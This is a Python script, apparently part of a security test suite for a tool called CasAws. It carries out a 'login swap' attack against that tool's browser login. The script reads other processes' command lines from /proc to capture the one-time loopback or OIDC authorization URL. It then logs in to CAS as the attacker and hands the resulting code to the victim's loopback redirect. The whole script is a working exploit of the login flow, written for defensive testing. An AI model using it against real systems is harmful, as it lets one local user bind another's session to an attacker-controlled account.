#!/usr/bin/env python3
"""
The browser-login swap of issue 19, as another local process (or another local user) would try it:
find the browser's command line naming CasAws's login (a one-time page on 127.0.0.1, or the
authorization URL itself), fetch it first, log in at CAS as oneself, and hand that code to CasAws's
loopback redirect. Steps are written to <markers>/attacker-*.txt so a test can order the victim's
browser around them. Standard library only, so it runs as a user who has nothing but python3.

usage: LoginSwapAttacker.py USER PASSWORD MARKER_DIR [WAIT_FOR_MARKER [ONLY_COMMAND_LINES_WITH]]
(the last keeps a test's attacker to its own browser, when earlier tests' browsers still run)
"""
import http.cookiejar
import os
import re
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

user, password, markers = sys.argv[1], sys.argv[2], sys.argv[3]
wait_for = sys.argv[4] if len(sys.argv) > 4 else None
only_with = sys.argv[5].encode() if len(sys.argv) > 5 else b""
LOGIN_ADDRESS = re.compile(rb"http://127\.0\.0\.1:\d+/[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])|https?://[^\x00\"]*/oidcAuthorize\?[^\x00\"]*")


class NoRedirects(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


jar = http.cookiejar.CookieJar()
browser = urllib.request.build_opener(NoRedirects, urllib.request.HTTPCookieProcessor(jar), urllib.request.ProxyHandler({}))


def mark(step, text=""):
    path = os.path.join(markers, "attacker-" + step + ".txt")
    with open(path + ".tmp", "w") as out:
        out.write(text)
    os.replace(path + ".tmp", path)


def get(url, data=None):
    try:
        with browser.open(urllib.request.Request(url, data=data), timeout=30) as answer:
            return answer.status, answer.headers, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as answer:
        return answer.code, answer.headers, answer.read().decode("utf-8", "replace")
    except (urllib.error.URLError, OSError) as problem:
        return 0, {}, str(problem)


def find_login_address(deadline):
    while time.time() < deadline:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                with open("/proc/" + pid + "/cmdline", "rb") as cmdline:
                    arguments = cmdline.read()
                found = LOGIN_ADDRESS.search(arguments) if only_with in arguments else None
            except OSError:
                continue
            if found:
                return found.group(0).decode()
        time.sleep(0.02)
    return None


address = find_login_address(time.time() + 60)
if address is None:
    mark("done", "no login address on any command line")
    sys.exit(1)
authorization = address
if "/oidcAuthorize?" not in address:
    status, headers, _ = get(address)
    if status != 303:
        mark("fetched", "refused")
        mark("done", "the one-time page answered %d" % status)
        sys.exit(0)
    authorization = headers["Location"]
mark("fetched", authorization)

if wait_for:
    deadline = time.time() + 60
    while not os.path.exists(os.path.join(markers, wait_for)) and time.time() < deadline:
        time.sleep(0.02)

status, _, page = get(authorization)
form = re.search(r'<form[^>]*id="fm1"[^>]*action="([^"]+)"[^>]*>(.*?)</form>', page, re.S)
execution = re.search(r'name="execution" value="([^"]*)"', form.group(2)).group(1)
action = urllib.parse.urljoin(authorization, form.group(1).replace("&amp;", "&"))
body = urllib.parse.urlencode({"username": user, "password": password, "execution": execution, "_eventId": "submit"}).encode()
status, headers, _ = get(action, body)
if status != 302:
    mark("done", "CAS did not log in the attacker (%d)" % status)
    sys.exit(1)
status, _, page = get(headers["Location"])
mark("done", "callback answered %d: %s" % (status, page))
